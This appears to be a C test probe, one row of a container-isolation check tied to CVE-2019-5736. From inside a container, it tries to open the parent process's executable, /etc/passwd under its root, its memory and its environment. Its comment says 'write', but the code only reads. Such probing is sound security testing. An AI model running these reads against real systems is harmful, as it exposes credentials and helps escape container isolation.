// Row 14: write to the program that started the payload (CVE-2019-5736). Usage: executable [parent|self]
#include "attack.h"

int main(int count, char **arguments) {
    char path[64], starter[16] = "self";
    // By name and not as 1, so that nobody else is meant where the pid namespace was left out.
    if (count < 2 || strcmp(arguments[1], "parent") == 0) snprintf(starter, sizeof starter, "%d", getppid());
    snprintf(path, sizeof path, "/proc/%s/exe", starter);
    char target[PATH_MAX];
    TRY("read the link to the starter's program", readlink(path, target, sizeof target));
    TRY("open the starter's program", open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%s/root/etc/passwd", starter);
    TRY("open the starter's root", open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%s/mem", starter);
    TRY("open the starter's memory", open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%s/environ", starter);
    TRY("open the starter's environment", open(path, O_RDONLY));
    return 0;
}
